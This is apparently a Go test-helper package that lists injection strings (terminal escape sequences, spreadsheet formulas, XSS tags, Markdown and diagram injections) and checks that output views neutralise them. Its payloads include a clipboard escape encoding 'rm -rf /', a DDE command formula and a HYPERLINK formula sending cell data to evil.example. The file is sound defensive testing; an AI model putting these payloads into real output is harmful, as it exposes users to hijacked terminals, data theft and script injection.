// Package hostiletest is the collection of strings that try to have an effect
// where they are shown: in a terminal, CSV, Markdown, HTML or a drawing. Tests
// of every view and export insert them wherever an agent, a server or the
// author of a file can, and check the result.
package hostiletest

import (
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"unicode/utf8"
)

// Text is one string of the collection.
type Text struct{ Name, Text string }

// Mark is part of every string, so that a test can verify that the string is
// shown.
const Mark = "owned"

// Texts returns the collection.
func Texts() []Text {
	return []Text{
		{"clear screen", "\x1b[2J\x1b[1;1Howned"},
		{"colour that hides", "\x1b[8mowned"},
		{"title", "\x1b]0;title\aowned"},
		{"clipboard", "\x1b]52;c;cm0gLXJmIC8=\aowned"},
		{"link", "\x1b]8;;https://evil.example\x1b\\owned\x1b]8;;\x1b\\"},
		{"device string", "\x1bP$qm\x1b\\owned"},
		{"nested", "\x1b\x1b[2J[2Jowned"},
		{"cut off", "owned\x1b["},
		{"C1 in UTF-8", "\u009b2J\u009d0;title\u009cowned"},
		{"C1 in bytes", "\x9b2Jowned"},
		{"overwriting", "Done: all is well\rowned\b\b\b"},
		{"further line", "owned\nDone: 6 ran, 0 cached.\r\n"},
		{"line separators", "owned\u2028Done\u2029.\u0085"},
		{"direction", "owned\u202egnp.exe\u202c \u2066x\u2069"},
		{"nothing", "\x00owned\x7f"},
		{"not UTF-8", "owned\xff\xfe\xc3"},
		{"formula", `=HYPERLINK("https://evil.example/?"&A1,"owned")`},
		{"command", "=cmd|' /C calc'!A0 owned"},
		{"plus", "+owned(1)"}, {"minus", "-owned+1"}, {"at", "@SUM(1)owned"},
		{"tab first", "\t=1+1 owned"}, {"return first", "\r=1+1 owned"}, {"blank first", " =1+1 owned"},
		{"full width", "\uff1d1+1 owned"},
		{"other separator", "owned;=1+1"}, {"further cell", `owned",=1+1`}, {"further row", "owned\n=1+1"},
		{"script", `<script>alert("owned")</script>`},
		{"image", `<img src=x onerror=alert(1)>owned`},
		{"closing", `"'></title></style></td>--><svg onload=alert(1)>owned`},
		{"entity", "&lt;script&gt;owned&#60;b&#62;"},
		{"template", "{{.Run.ID}}owned${1+1}"},
		{"Markdown link", "[owned](javascript:alert(1))"},
		{"Markdown image", "![owned](https://evil.example/x.png)"},
		{"bare address", "https://evil.example/owned www.evil.example a@evil.example"},
		{"cells", "owned | 100.0 | gold |"},
		{"code", "`owned`` ` ~~~"},
		{"heading", "# owned\n\n---\n* _x_ **y**"},
		{"backslashes", `\owned\|\\|\`},
		{"DOT", `owned"]; evil [label="x`}, {"DOT escape", `owned\"]; \N \L`},
		{"Mermaid", "owned\"]\n click n0 \"javascript:alert(1)\"\n n0[\"#quot;"},
	}
}

// Good returns strings in various languages that must not be changed.
func Good() []string {
	return []string{"café", "ěščř Ăă", "日本語のモデル", "עברית", "العربية", "हिन्दी", "👩\u200d🔬", "gpt-4o", "x/y:z v1.2"}
}

// Terminal checks text for a terminal, without the colours that the program
// itself may write. Line ends and tabs are the only control characters allowed.
func Terminal(shown string) error {
	if !utf8.ValidString(shown) {
		return fmt.Errorf("it is not UTF-8: %.200q", shown)
	}
	for i, r := range shown {
		if r != '\n' && r != '\t' && control(r) {
			return fmt.Errorf("it has %U: %.200q", r, shown[max(0, i-60):])
		}
	}
	return nil
}

// control is deliberately implemented a second time: a test that used the
// program's own function could not find its gaps.
func control(r rune) bool {
	switch {
	case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f:
		return true
	case r == 0x2028, r == 0x2029, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
		return true
	}
	return false
}

var number = regexp.MustCompile(`^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?$|^-inf$`)

// CSV checks CSV data: no spreadsheet may take a cell for a formula, whichever
// of the usual separators it assumes.
func CSV(text string) error {
	for _, comma := range []rune{',', ';', '\t'} {
		r := csv.NewReader(strings.NewReader(text))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
		rows, err := r.ReadAll()
		if err != nil {
			return fmt.Errorf("separated by %q: %w", comma, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				for line := range strings.Lines(strings.ReplaceAll(cell, "\r", "\n")) {
					trimmed := strings.TrimLeft(line, " \t\n")
					if trimmed != "" && strings.ContainsRune("=+-@\uff1d\uff0b\uff0d\uff20", []rune(trimmed)[0]) && !number.MatchString(strings.TrimSpace(trimmed)) {
						return fmt.Errorf("separated by %q it has the formula %.80q", comma, cell)
					}
				}
			}
		}
	}
	return nil
}

// Markdown checks one line of Markdown that contains a hostile string: every
// character that starts a construct is escaped. cells is the number of cells in
// the line, or 0 if it is not a row.
func Markdown(line string, cells int) error {
	if err := Terminal(line); err != nil {
		return err
	}
	bare := regexp.MustCompile(`\\[[:punct:]]`).ReplaceAllString(line, "")
	if n := strings.Count(bare, "|"); cells > 0 && n != cells+1 || cells == 0 && n > 0 {
		return fmt.Errorf("it has %d bars: %.200q", n, line)
	}
	for _, bad := range []string{"<", ">", "`", "[", "]", "*", "_", "~", "![", "://", "www.", "@"} {
		if strings.Contains(bare, bad) {
			return fmt.Errorf("%q is not escaped: %.200q", bad, line)
		}
	}
	if entity := regexp.MustCompile(`&(#|\w+;)`).FindString(bare); entity != "" && !strings.Contains("&amp;&lt;&gt;", entity) {
		return fmt.Errorf("it has the character reference %q: %.200q", entity, line)
	}
	return nil
}

// HTML checks a page: it must contain none of the collection's tags and nothing
// that Terminal rejects.
func HTML(page string) error {
	for _, bad := range []string{"<script", "<img", "<svg onload", "javascript:alert(1)\"", "onerror=alert(1)>"} {
		if strings.Contains(page, bad) {
			return fmt.Errorf("%q is in the page", bad)
		}
	}
	return Terminal(page)
}
